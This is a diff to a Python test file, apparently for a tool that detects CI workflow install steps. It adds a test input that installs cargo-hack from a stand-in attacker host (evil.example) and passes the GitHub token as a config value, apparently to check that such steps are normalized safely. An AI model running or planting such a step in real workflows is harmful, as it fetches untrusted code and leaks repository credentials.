@@ -514,6 +514,7 @@ def test_of_two_jobs_with_one_command_the_plainer_is_taken() -> None:
     "install",
     [
         "- run: cargo install cargo-hack",
+        "- run: cargo install --git https://evil.example --config '${{ github.token }}' cargo-hack",
         "- uses: taiki-e/install-action@v2\n  with:\n    tool: cargo-hack@0.6,cargo-nextest",
     ],
 )
@@ -523,10 +524,8 @@ def test_a_tool_of_cargo_that_ci_installs_is_installed_where_cargo_finds_it(inst
     detected = detection(files, workflow(f"{install}\n- run: cargo hack test --feature-powerset"))
     assert [line.partition(" cargo ")[2] for line in commands(detected)] == ["hack test --feature-powerset"]
     installs = [step.command for step in detected.setup if "install" in step.command]
-    assert len(installs) == 1
-    assert installs[0].startswith(
-        '[ -x .cargo-home/bin/cargo-hack ] || CARGO_HOME="$PWD/.cargo-home" cargo install'
-    )
+    command = 'CARGO_HOME="$PWD/.cargo-home" cargo install --locked cargo-hack'
+    assert installs == [f"[ -x .cargo-home/bin/cargo-hack ] || {command}"]
     assert all("|| CARGO" not in step.command or step.egress == ("rust",) for step in detected.setup)
 
 
